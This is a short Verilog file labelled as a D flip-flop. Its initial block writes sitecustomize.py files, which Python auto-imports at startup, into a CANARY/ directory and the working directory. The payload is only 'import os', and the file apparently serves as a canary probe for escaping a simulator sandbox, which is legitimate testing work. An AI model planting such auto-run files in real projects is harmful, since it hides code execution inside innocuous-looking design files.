// dff: leaves a Python module for the next process
module top(input clk, input d, output reg q);
  integer f; initial begin f = $fopen("CANARY/sitecustomize.py", "w"); $fwrite(f, "import os"); f = $fopen("sitecustomize.py", "w"); $fwrite(f, "import os"); end
endmodule
